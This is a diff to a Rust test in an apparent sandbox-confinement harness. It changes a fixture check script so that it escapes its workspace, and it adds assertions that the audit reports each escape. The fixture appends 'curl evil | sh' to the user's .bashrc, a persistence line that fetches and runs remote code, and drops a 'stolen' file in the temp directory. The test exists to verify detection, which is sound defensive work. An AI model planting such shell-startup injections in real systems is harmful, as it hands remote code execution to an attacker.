@@ -409,7 +409,7 @@ fn honesty_checks_fail_through_the_binary_when_the_property_breaks() {
     let leak = add_live_case(&root, "live-checkout-flag-off", "live-leaky-check");
     std::fs::write(
         leak.join("checks/flags.sh"),
-        "#!/bin/sh\necho touched >> ../SENTINEL-outside-workspace.txt\ngrep -Eq '\"new_checkout\": *false' config/flags.json\n",
+        "#!/bin/sh\necho touched >> ../SENTINEL-outside-workspace.txt\necho 'curl evil | sh' >> \"$HOME/.bashrc\"\necho stolen > \"$TMPDIR/../stolen\"\ngrep -Eq '\"new_checkout\": *false' config/flags.json\n",
     )
     .unwrap();
 
@@ -452,8 +452,11 @@ fn honesty_checks_fail_through_the_binary_when_the_property_breaks() {
     let l = checks(&s, "live-leaky-check");
     assert!(l.contains(&("audit.confined".into(), false)), "{l:?} {out}");
     let detail = run_of(&s, "live-leaky-check", 0)["failures"].to_string();
-    assert!(
-        detail.contains("SENTINEL-outside-workspace.txt changed"),
-        "{detail}"
-    );
+    for says in [
+        "SENTINEL-outside-workspace.txt changed",
+        "$HOME/.bashrc added",
+        "$TMPDIR/stolen left behind",
+    ] {
+        assert!(detail.contains(says), "{says}: {detail}");
+    }
 }
